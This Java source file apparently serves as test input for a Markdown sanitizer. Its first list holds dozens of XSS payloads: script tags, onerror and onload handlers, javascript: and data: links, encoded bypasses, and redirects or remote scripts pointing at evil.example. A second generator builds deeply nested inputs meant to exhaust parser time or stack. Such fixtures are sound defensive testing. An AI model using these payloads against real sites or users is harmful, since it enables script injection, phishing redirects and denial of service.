package org.alike.content;

import java.util.Collections;
import java.util.List;
import java.util.stream.Stream;

/** Markdown that somebody might write to do harm. */
final class Hostile {
  private Hostile() {}

  static Stream<String> markdown() {
    return Stream.concat(SHORT.stream(), endless());
  }

  private static final List<String> SHORT =
      List.of(
          "<script>alert(1)</script>",
          "<ScRiPt src=//evil.example/x.js></sCrIpT>",
          "<scr<script>ipt>alert(1)</scr</script>ipt>",
          "<img src=x onerror=alert(1)>",
          "<svg onload=alert(1)>",
          "<svg><script>alert(1)</script></svg>",
          "<svg><a xlink:href=\"javascript:alert(1)\"><text>x</text></a></svg>",
          "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
          "<iframe srcdoc=\"<script>alert(1)</script>\"></iframe>",
          "<object data=\"data:text/html,<script>alert(1)</script>\"></object>",
          "<form action=https://evil.example><input name=q></form>",
          "<base href=\"https://evil.example/\">",
          "<meta http-equiv=refresh content=\"0;url=https://evil.example\">",
          "<link rel=stylesheet href=//evil.example/x.css>",
          "<style>body{display:none}</style>",
          "<template><img src=x onerror=alert(1)></template>",
          "<noscript><p title=\"</noscript><img src=x onerror=alert(1)>\">",
          "<!--><script>alert(1)</script-->",
          "<![CDATA[<script>alert(1)</script>]]>",
          "<?php echo 1 ?><script>alert(1)</script>",
          "&lt;script&gt;alert(1)&lt;/script&gt;",
          "&#60;script&#62;alert(1)&#60;/script&#62;",
          "&#x3c;img src=x onerror=alert(1)&#x3e;",
          "[x](javascript:alert(1))",
          "[x](JaVaScRiPt:alert(1))",
          "[x](  javascript:alert(1))",
          "[x](<javascript:alert(1)>)",
          "[x](javascript&colon;alert(1))",
          "[x](&#106;avascript:alert(1))",
          "[x](java\\script:alert(1))",
          "[x](\u0001javascript:alert(1))",
          "[x](java%0ascript:alert(1))",
          "[x](data:text/html;base64,PHNjcmlwdD4=)",
          "[x](data:text/html,<script>alert(1)</script>)",
          "[x](vbscript:msgbox)",
          "[x](view-source:https://a.example)",
          "[x](file:///etc/passwd)",
          "[x](blob:https://a.example/1)",
          "[x][1]\n\n[1]: javascript:alert(1)",
          "[x][1]\n\n[1]: data:text/html,x 'title\" onclick=alert(1) x='",
          "[x](https://a.example \"t\\\" onmouseover=alert(1) x=\\\"\")",
          "[x](https://a.example\" onclick=\"alert(1))",
          "<javascript:alert(1)>",
          "<https://a.example/\"onmouseover=alert(1)>",
          "![x](javascript:alert(1))",
          "![x\" onerror=\"alert(1)](https://a.example/x.png)",
          "![x](data:image/svg+xml;base64,PHN2Zz4=)",
          "[![x](javascript:a)](javascript:b)",
          "[[x](javascript:a)](https://b.example)",
          "[a](https://a.example)](javascript:b)",
          "```\n</code></pre><script>alert(1)</script>\n```",
          "```html onload=alert(1)\nx\n```",
          "```\"><script>alert(1)</script>\nx\n```",
          "`</code><script>alert(1)</script>`",
          "    </pre><script>alert(1)</script>",
          "> <script>\n> alert(1)\n> </script>",
          "- <script>alert(1)</script>",
          "# <script>alert(1)</script>",
          "### a {#x\" onclick=\"alert(1)}",
          "a\u0000<script>alert(1)</script>",
          "\u202e<script>alert(1)</script>",
          "<a href='javascript:alert(1)'>x</a>",
          "<a href=\"https://a.example\" onclick=\"alert(1)\">x</a>",
          "<p style=\"position:fixed;inset:0\">x</p>",
          "<details open ontoggle=alert(1)>");

  /** What would take long, or exhaust the stack, if it were read as it is. */
  private static Stream<String> endless() {
    Stream<String> repeated =
        Stream.of(
                ">",
                "> ",
                "- ",
                "1. ",
                "[",
                "![",
                "[a](",
                "*",
                "**a",
                "*a _b ",
                "`",
                "<",
                "<a ",
                "<!--",
                "&#x",
                "&lt;",
                "!!",
                "?\n",
                "\n- ",
                "\\",
                "[a]: b\n",
                "](",
                "\t> ",
                "||")
            .map(part -> part.repeat(20_000 / part.length()));
    String nested =
        String.join("", Collections.nCopies(5_000, "*a "))
            + String.join("", Collections.nCopies(5_000, "*"));
    String brackets = "[".repeat(10_000) + "x" + "](javascript:a)".repeat(700);
    StringBuilder list = new StringBuilder();
    for (int depth = 0; depth < 190; depth++) {
      list.append(" ".repeat(depth)).append("- a\n");
    }
    return Stream.concat(repeated, Stream.of(nested, brackets, list.toString()));
  }
}
